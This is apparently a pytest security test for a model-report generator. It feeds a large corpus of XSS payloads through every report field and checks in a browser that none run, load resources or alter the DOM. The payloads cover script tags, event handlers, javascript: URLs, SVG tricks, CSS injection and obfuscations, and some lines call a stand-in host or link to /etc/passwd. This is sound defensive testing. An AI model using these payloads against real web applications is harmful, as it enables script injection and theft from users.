"""Hostile text through every user field, in a real browser: nothing runs, nothing loads, all of it stays text.

A corpus of XSS payloads (script tags, event handlers, `javascript:` and `data:` URLs, SVG and MathML
tricks, `</style>`/`</script>`/`</title>` breakouts, attribute breakouts with quotes and backticks,
entity and unicode obfuscations, markdown links, images and raw HTML, CSS injection, `<meta refresh>`,
`<base href>`, `<iframe srcdoc>`, ...) is spread over the user fields of two configs, one build
each: the report title, model name, version, date, description, owners, license, citation and
parameter names, every `[card]` markdown field, slice names and `where` text, column names, group
values (slices, the fairness reference, a gate's group, multiclass classes), the baseline's name,
error-analysis example cells and training-history column names; a site index lists the reports
under hostile model names, versions and titles.

Each page is opened in Chromium with every request but the page itself blocked, once as shipped
and once with its Content-Security-Policy bypassed (so the escaping is tested on its own, not only
the policy), in both HTML modes. A payload that ran would set `window.__xss` (or `document.title`),
open a dialog, log an error (a script or image the policy refused is a console error too) or send a
request; none may happen, the DOM may hold no element or attribute a payload could have made, and
every payload's tag (`x001`, ...) must be on the page as text, so no field is silently left out.
"""

from __future__ import annotations

import base64
import dataclasses
import html
import json
import re
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from reportgen.document.schema import Report
from reportgen.evaluation import evaluate_config
from reportgen.render import formats
from reportgen.render.html import render_charts, to_html
from reportgen.render.markdown import to_markdown
from reportgen.render.templates import content_security_policy
from reportgen.site import publish
from tests.helpers import GITHUB_REFERENCES, gfm, html_tags, open_page

S = "window.__xss=1"  # what a payload runs when it can
P = "parent.__xss=1"  # the same from a frame
B64 = base64.b64encode(S.encode()).decode()
FAR = "http://127.0.0.1:9"  # any request there (or anywhere) is blocked and recorded

# fmt: off
PAYLOADS = [
    # script elements
    f"<script>{S}</script>", f"<SCRIPT>{S}</SCRIPT>", f"<script src=data:,{S}></script>",
    f"<script/src=data:,{S}></script>", f"<script type=module>{S}</script>",
    f'<script\ttype="text/javascript">{S}</script>',
    f"<scr<script>ipt>{S}</scr</script>ipt>", f"<<script>script>{S}<</script>/script>", f"<script>{S}//",
    f"<script src={FAR}/x.js></script>",
    # event handlers
    f"<img src=x onerror={S}>", f'<img src=x onerror="{S}">', f"<img src=x onerror='{S}'>",
    f"<img src=x onerror=`{S}`>",
    f"<img/src/onerror={S}>", f"<img src=x:x onerror={S}//", f"<svg onload={S}>", f"<svg/onload={S}>",
    f"<body onload={S}>", f"<input autofocus onfocus={S}>", f"<details open ontoggle={S}>",
    f"<video><source onerror={S}></video>", f"<audio src=x onerror={S}>", f"<marquee onstart={S}>x</marquee>",
    f"<a id=f tabindex=1 onfocus={S} autofocus>f</a>", f'<div onmouseover="{S}">hover</div>',
    f"<b onmouseover={S}>bold</b>", f"<select autofocus onfocus={S}>",
    # attribute breakouts (an unescaped value inside an attribute would end it)
    f'" onmouseover="{S}" x="', f"' onmouseover='{S}' x='", f"` onmouseover={S} x=`", f'" autofocus onfocus="{S}',
    f'"><script>{S}</script>', f"'><script>{S}</script>", f'"><img src=x onerror={S}>', f"'><svg onload={S}>",
    f'"/><svg onload={S}>', f'x" style="background:url({FAR}/attr)',
    # element breakouts
    f"</style><script>{S}</script>", f"</script><script>{S}</script>", f"</ScRiPt ><script>{S}</script>",
    f"</script\n><script>{S}</script>", f"</title><script>{S}</script>", f"</textarea><script>{S}</script>",
    f"--><script>{S}</script>", f"<!--</script><script>{S}</script>-->", f"]]><script>{S}</script>",
    f"</noscript><script>{S}</script>", f'</a><a href="javascript:{S}">x</a>', f"</svg><script>{S}</script>",
    # URLs
    f'<a href="javascript:{S}">x</a>', f'<a href="JaVaScRiPt:{S}">x</a>', f'<a href=" javascript:{S}">x</a>',
    f'<a href="jav&#x09;ascript:{S}">x</a>', f'<a href="&#106;avascript:{S}">x</a>', f'<a href="vbscript:{S}">x</a>',
    f'<a href="data:text/html,<script>{S}</script>">x</a>', f'<a href="data:text/html;base64,{B64}">x</a>',
    f"javascript:{S}", f"data:text/html,<script>{S}</script>", f"<form action=javascript:{S}><input type=submit>",
    f"<button formaction=javascript:{S}>x</button>", f"<object data=javascript:{S}>", f"<embed src=javascript:{S}>",
    f"<isindex action=javascript:{S} type=image>",
    # frames, refresh, base, imports
    f'<iframe src="javascript:{S}">', f'<iframe srcdoc="<script>{P}</script>">',
    f'<iframe srcdoc="&lt;script&gt;{P}&lt;/script&gt;">', f"<iframe src={FAR}/frame>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{S}">',
    f'<meta http-equiv="refresh" content="0;url={FAR}/r">',
    f'<base href="{FAR}/">', f"<link rel=stylesheet href={FAR}/x.css>", f"<link rel=import href={FAR}/imp>",
    f"<portal src={FAR}/p>", '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    # SVG and MathML
    f"<svg><script>{S}</script></svg>", f"<svg><animate onbegin={S} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{S}"><text x=20 y=20>svg</text></a></svg>',
    f"<svg><set attributeName=onmouseover to={S}>",
    f'<svg><foreignObject><iframe srcdoc="<script>{P}</script>"></iframe></foreignObject></svg>',
    f"<svg><style>@import url({FAR}/svg.css)</style></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror={S} /></svg>#x"/></svg>',
    f'<svg><image href="{FAR}/i.png"/></svg>', f"<math><mtext><table><mglyph><style><img src=x onerror={S}>",
    f'<math href="javascript:{S}">m</math>',
    f'<math><maction actiontype=statusline xlink:href="javascript:{S}">m</maction></math>',
    f'<noscript><p title="</noscript><img src=x onerror={S}>">', f"<template><script>{S}</script></template>",
    f"<xmp><img src=x onerror={S}></xmp>", f'<!--<img src="--><img src=x onerror={S}//">',
    # CSS injection
    f'<div style="background:url({FAR}/bg)">css</div>', f'<div style="width:expression({S})">css</div>',
    f"x{{background:url({FAR}/css)}}", f"</style><style>body{{background:url({FAR}/css2)}}</style>",
    f"<style>*{{background:url('{FAR}/star')}}</style>", f"<style>@import '{FAR}/i.css';</style>",
    # obfuscation: entities, escapes, unicode
    '<img src="x" onerror="&#119;indow.__xss=1">', r"<img src=x onerror=\u0077indow.__xss=1>",
    f"<img src=x onerror=eval(atob('{B64}'))>", "<img src=x onerror=window['__x'+'ss']=1>",
    "<img src=x onerror=top[/__xss/.source]=1>", f"\uff1cscript\uff1e{S}\uff1c/script\uff1e",
    rf"\u003cscript\u003e{S}\u003c/script\u003e", f"&lt;script&gt;{S}&lt;/script&gt;",
    f"&#60;script&#62;{S}&#60;/script&#62;", f"%3Cscript%3E{S}%3C/script%3E", f"\u202e<script>{S}</script>",
    f"<scr\u200bipt>{S}</script>", f"<img src=x onerror={S}\u2028>", f"<\u00a0script>{S}</script>",
    # script-context and template breakouts (the interactive page's JSON, Jinja, other template engines)
    f'";{S};//', f"';{S};//", f'\\";{S};//', f"</script>'\"{S}", "{{ 7*7 }}{% raw %}",
    f"{{{{constructor.constructor('{S}')()}}}}", f"${{{S}}}", f'{{"a":"</script><script>{S}</script>"}}',
    # markdown (fields rendered as markdown; elsewhere plain text)
    f"[x](javascript:{S})", f"[x](JAVASCRIPT:{S})", f"[x](&#106;avascript:{S})", f"[x](<javascript:{S}>)",
    f"<javascript:{S}>", f"![x]({FAR}/img.png)", f"![x](javascript:{S})", f"[x](data:text/html;base64,{B64})",
    f"[x](vbscript:{S})", "[x](file:///etc/passwd)", "[x](//127.0.0.1:9/x)",
    f'[x](https://example.com "t\\" onmouseover=\\"{S}")',
    f'[x](https://example.com/"onmouseover="{S})', f"[<img src=x onerror={S}>](https://example.com)",
    f"`<img src=x onerror={S}>`", f"<b onmouseover={S}>raw html</b>", f"[x][r]\n\n[r]: javascript:{S}",
    f"```html\n<script>{S}</script>\n```", f"<{FAR}/autolink>", f"[x]({FAR}/x)",
]
# fmt: on
TAGGED = [f"x{i:03d} {p}" for i, p in enumerate(PAYLOADS)]
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100

# Who gets which payloads. One line: everything but markdown fields (a newline would be a space there).
PLAIN = [t for t in TAGGED if "\n" not in t]
MARKDOWN_FIELDS = ["intended_use", "out_of_scope", "factors", "training_data", "evaluation_data",
                   "ethical_considerations", "caveats"]
SHOPS = PLAIN[0:20]  # group values of slice "shop" (and the fairness reference, a gate's group)
CITIES = PLAIN[20:40]  # group values of slice "city"
COLUMNS = PLAIN[40:44]  # column names: slices (one an intersection), sensitive, error-analysis candidates
HISTORY_COLUMNS = PLAIN[44:46]  # training-history series
SLICE_NAME = PLAIN[46]  # the name of a `where` slice
WHERE_VALUE = next(t for t in PLAIN[47:] if '"' not in t and "\\" not in t)  # in the text of an unnamed `where`
OWNERS = PLAIN[47:50]
PARAMS = PLAIN[50:53]
MODEL = {"name": PLAIN[53], "version": PLAIN[54], "date": PLAIN[55], "license": PLAIN[56], "citation": PLAIN[57]}
TITLE = PLAIN[58]
BASELINE = PLAIN[59]
CLASSES = PLAIN[60:64]  # the multiclass build's classes
SITE = {"title": PLAIN[64], "names": PLAIN[65:67], "versions": PLAIN[67:69], "titles": PLAIN[69:71]}
# Markdown (the model description and every [card] field): the rest, with newlines, and HTML payloads again.
MARKDOWN = [t for t in TAGGED if t not in PLAIN[:71]] + PLAIN[:16]
DESCRIPTION = MARKDOWN[0::8]
CARD = {field: MARKDOWN[1 + k::8] for k, field in enumerate(MARKDOWN_FIELDS)}
ERROR_CELLS = PLAIN[0:5]  # the failing rows get these shops, so error analysis shows them in its examples


def _toml(text: str) -> str:
    """A TOML basic string (JSON's escapes are TOML's)."""
    assert not any(ord(c) < 0x20 and c not in "\t\n" or c == "\x7f" for c in text)
    return json.dumps(text, ensure_ascii=False)


def _markdown(tagged: list[str]) -> str:
    return "\n\n".join(tagged)


def _predictions(n: int = 1200, seed: int = 0) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    y = rng.integers(0, 2, n)
    p = np.clip(0.3 * y + rng.random(n) * 0.7, 0, 1).round(3)
    frame = pd.DataFrame({
        "y": y, "p": p, "p_old": np.clip(p + rng.normal(0, 0.05, n), 0, 1).round(3), "pred": (p >= 0.5).astype(int),
        "shop": np.array(SHOPS)[np.arange(n) % len(SHOPS)], "city": np.array(CITIES)[rng.integers(0, len(CITIES), n)],
        **{c: rng.choice(["a", "b"], n) for c in COLUMNS},
    })
    wrong = (frame["pred"] != frame["y"]).to_numpy()
    frame.loc[wrong, "shop"] = np.array(ERROR_CELLS)[np.arange(wrong.sum()) % len(ERROR_CELLS)]
    return frame


def _binary_config(folder: Path) -> Path:
    """A config with a payload in every field, its predictions, baseline and training history beside it."""
    _predictions().to_csv(folder / "predictions.csv", index=False)
    epochs = np.arange(20)
    pd.DataFrame({"epoch": epochs, "loss": 1 / (epochs + 1), HISTORY_COLUMNS[0]: 1 / (epochs + 2),
                  HISTORY_COLUMNS[1]: 0.5 + 0.01 * epochs}).to_csv(folder / "history.csv", index=False)
    slices = "".join(f"\n[[slices]]\ncolumn = {_toml(c)}\n" for c in ["shop", "city", COLUMNS[2]])
    slices += f"\n[[slices]]\ncolumns = [{_toml(COLUMNS[0])}, {_toml(COLUMNS[1])}]\n"
    slices += f'\n[[slices]]\nname = {_toml(SLICE_NAME)}\nwhere = "p > 0.3"\n'
    slices += f"\n[[slices]]\nwhere = {_toml(f'shop == {json.dumps(WHERE_VALUE)} or p > 0.9')}\n"
    card = "".join(f"{field} = {_toml(_markdown(CARD[field]))}\n" for field in MARKDOWN_FIELDS)
    text = f"""
[report]
title = {_toml(TITLE)}
resamples = 100

[model]
name = {_toml(MODEL["name"])}
version = {_toml(MODEL["version"])}
date = {_toml(MODEL["date"])}
description = {_toml(_markdown(DESCRIPTION))}

[model.params]
{"".join(f"{_toml(k)} = {i}{chr(10)}" for i, k in enumerate(PARAMS))}
[data]
path = "predictions.csv"
label = "y"
score = "p"
prediction = "pred"

[baseline]
name = {_toml(BASELINE)}
path = "predictions.csv"
score = "p_old"

[training]
history = "history.csv"
{slices}
[fairness]
sensitive = ["shop", {_toml(COLUMNS[3])}]
reference = {{ shop = {_toml(SHOPS[7])} }}

[[gates]]
metric = "accuracy"
slice = "shop"
group = {_toml(SHOPS[3])}
min = 0.1

[[gates]]
metric = "recall"
slice = {_toml(SLICE_NAME)}
min = 0.99

[[gates]]
metric = "accuracy"
max_regression = 0.5
baseline = {_toml(BASELINE)}

[[gates]]
fairness = "demographic_parity_difference"
sensitive = {_toml(COLUMNS[3])}
max = 0.01

[error_analysis]
examples = 20

[card]
owners = [{", ".join(_toml(o) for o in OWNERS)}]
license = {_toml(MODEL["license"])}
citation = {_toml(MODEL["citation"])}
{card}"""
    (folder / "config.toml").write_text(text, encoding="utf-8")
    return folder / "config.toml"


def _multiclass_config(folder: Path) -> Path:
    """Classes named by payloads (labels, score columns mapped by name)."""
    rng = np.random.default_rng(1)
    n = 400
    y = np.array(CLASSES)[np.arange(n) % len(CLASSES)]
    p = rng.dirichlet([1] * len(CLASSES), n)
    frame = pd.DataFrame({"y": y, **{f"p{k}": p[:, k] for k in range(len(CLASSES))},
                          "shop": np.array(SHOPS[:4])[rng.integers(0, 4, n)]})
    frame.to_csv(folder / "predictions.csv", index=False)
    scores = ", ".join(f"{_toml(c)} = \"p{k}\"" for k, c in enumerate(CLASSES))
    text = f"""
[report]
title = "multiclass"
resamples = 100

[model]
task = "multiclass"

[data]
path = "predictions.csv"
label = "y"
scores = {{ {scores} }}

[[slices]]
column = "shop"
"""
    (folder / "config.toml").write_text(text, encoding="utf-8")
    return folder / "config.toml"


def _pages(report: Report, folder: Path, name: str) -> dict[str, tuple[Path, list[str]]]:
    """The report's page in both modes (the charts rendered once), with the scripts each may hold."""
    rendered = render_charts(report, interactive=True)
    pages = {}
    for interactive in (False, True):
        path = folder / f"{name}-{'interactive' if interactive else 'default'}.html"
        path.write_text(to_html(report, interactive=interactive, rendered=rendered), encoding="utf-8")
        pages[path.stem] = path
    return pages


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Report]:
    """The two hostile builds: binary (every field) and multiclass (classes), as `reportgen build` evaluates them."""
    folder = tmp_path_factory.mktemp("xss-configs")
    (folder / "binary").mkdir()
    (folder / "multiclass").mkdir()
    return {"binary": evaluate_config(_binary_config(folder / "binary")).to_report(),
            "multiclass": evaluate_config(_multiclass_config(folder / "multiclass")).to_report()}


@pytest.fixture(scope="module")
def hostile_pages(hostile_reports: dict[str, Report], tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Both builds, each in both modes, and a site index listing two hostile models (~30 s: the charts)."""
    folder = tmp_path_factory.mktemp("xss")
    binary = hostile_reports["binary"]
    pages = {**_pages(binary, folder, "binary"), **_pages(hostile_reports["multiclass"], folder, "multiclass")}
    builds = []
    for k in range(2):  # two models, one version each, published into a site
        report = dataclasses.replace(binary, title=SITE["titles"][k], model=dataclasses.replace(
            binary.model, name=SITE["names"][k], version=SITE["versions"][k]))
        out = folder / f"out-{k}"
        out.mkdir()
        formats.write(report, out / "report.json", "json")
        shutil.copy(pages["binary-default"], out / "report.html")  # the page itself is tested above
        builds.append(out)
    publish(folder / "site", builds, title=SITE["title"])
    pages["site"] = folder / "site" / "index.html"
    return pages


# What the summary's own markup renders to (tests/render/test_markdown.py has the same set).
SUMMARY_TAGS = {"h2", "h3", "p", "strong", "a", "code", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "br",
                "details", "summary", "b", "sub", "hr", "blockquote"}

# The payload tags each page must show as text (all of a build's fields; the site lists its own).
SITE_TAGS = [SITE["title"], *SITE["names"], *SITE["versions"], *SITE["titles"]]
MULTICLASS_TAGS = [*CLASSES, *SHOPS[:4]]
BINARY_TAGS = [t for t in TAGGED if t not in SITE_TAGS and t not in CLASSES]

# Elements and attributes no page of ours has, and that a payload would bring.
FORBIDDEN = ("iframe, frame, frameset, object, embed, img, image, base, form:not(.vega-bindings), input, button, "
             "textarea, select, link, "
             "video, audio, source, portal, math, template, noscript, xmp, plaintext, marquee, isindex, foreignObject, "
             "use, animate, set, body style, meta[http-equiv=refresh], svg a, svg script")
_DOM_PROBLEMS = """forbidden => {
  const problems = [...document.querySelectorAll(forbidden)].map(e => 'element ' + e.outerHTML.slice(0, 120));
  const urls = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'poster', 'srcdoc'];
  for (const e of document.querySelectorAll('*')) {
    for (const a of e.attributes) {
      const name = a.name.toLowerCase(), value = a.value.replace(/[\\s\\x00-\\x20]/g, '').toLowerCase();
      if (name.startsWith('on')) problems.push('handler ' + name + ' on ' + e.tagName);
      if (urls.includes(name) && /^(javascript|vbscript|data):/.test(value)) problems.push('url ' + name + '=' + value);
      if (name === 'style' && !e.closest('svg, .vega-embed, #vg-tooltip-element')) {
        problems.push('style on ' + e.tagName);
      }
    }
  }
  const metas = [...document.querySelectorAll('meta[http-equiv]')].map(m => m.getAttribute('http-equiv'));
  if (metas.join() !== 'Content-Security-Policy') problems.push('http-equiv ' + metas.join());
  return problems;
}"""


# The page's text as a reader gets it (the title, closed <details> included; not the scripts' source).
_TEXT = """() => {
  const walker = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_TEXT);
  const parts = [];
  while (walker.nextNode()) {
    if (!walker.currentNode.parentElement.closest('script, style')) parts.push(walker.currentNode.data);
  }
  return parts.join(' ');
}"""


def _hover_marks(page) -> None:
    """Hover chart marks that carry group names (slices, fairness, error tree), so that Vega draws its
    tooltips, built from the hostile names."""
    page.wait_for_function("document.querySelectorAll('figure.chart.vega-embed svg').length > 0", timeout=20_000)
    marks = page.locator("figure.chart.vega-embed:is([id^=chart-slice-], [id^=chart-fairness-], #chart-error-tree)"
                         " svg :is(.mark-symbol, .mark-rect) path")
    shown = []
    for i in range(0, min(marks.count(), 400), 8):
        marks.nth(i).hover(force=True, timeout=5_000)
        tooltip = page.locator("#vg-tooltip-element")
        if tooltip.count() and tooltip.is_visible():
            shown.append(tooltip.inner_text())
    assert sum("x0" in t for t in shown) >= 3, shown[:5]  # hostile names were drawn


@pytest.mark.parametrize("csp", ["enforced", "bypassed"])
@pytest.mark.parametrize("name", ["binary-default", "binary-interactive", "multiclass-default",
                                  "multiclass-interactive", "site"])
def test_issue_12_xss_corpus_is_inert(browser, hostile_pages: dict[str, Path], name: str, csp: str) -> None:
    path = hostile_pages[name]
    page, requests, errors = open_page(browser, path, bypass_csp=csp == "bypassed")
    interactive = name.endswith("-interactive")
    if interactive:
        _hover_marks(page)
    page.wait_for_timeout(300)  # a timer or a refresh a payload set would have fired
    assert page.url == path.as_uri()  # no refresh, no navigation
    assert page.evaluate("window.__xss") is None
    assert page.title() != "PWNED"
    assert page.evaluate(_DOM_PROBLEMS, FORBIDDEN) == []
    scripts = page.evaluate("[...document.scripts].map(s => s.text)")
    assert len(scripts) == (2 if interactive else 0)  # the Vega runtime and the embed calls
    policy = page.evaluate("document.querySelector('meta[http-equiv]').content")
    assert policy == content_security_policy(scripts)
    text = page.evaluate(_TEXT)
    expected = SITE_TAGS if name == "site" else MULTICLASS_TAGS if name.startswith("multiclass") else BINARY_TAGS
    missing = [t for t in expected if t.split()[0] + " " not in text]
    assert missing == [], f"{len(missing)} payloads are not on the page: {missing[:5]}"
    if name.startswith("binary"):  # error analysis showed hostile cells in its example rows
        assert page.locator("table.examples td", has_text="x00").count() > 0
    page.close()
    assert requests == []
    assert errors == []


def test_issue_12_xss_corpus_summary_is_inert(hostile_reports: dict[str, Report]) -> None:
    """The same builds' summary.md: rendered as GitHub does, only the summary's own markup, and no reference."""
    for report in hostile_reports.values():
        text = to_markdown(report)
        rendered = gfm().render(text)
        tags = html_tags(rendered)
        assert {t for t, _ in tags} <= SUMMARY_TAGS, {t for t, _ in tags} - SUMMARY_TAGS
        assert {name for _, attrs in tags for name in attrs} <= {"style"}  # table alignment; no link without base_url
        shown = html.unescape(re.sub(r"<code>[^<]*</code>|<[^>]+>", " ", rendered))  # text, not the fingerprint
        assert GITHUB_REFERENCES.findall(shown) == []
        assert "x000 <script>" in shown.replace("\u2060", "")  # hostile names are there, as text
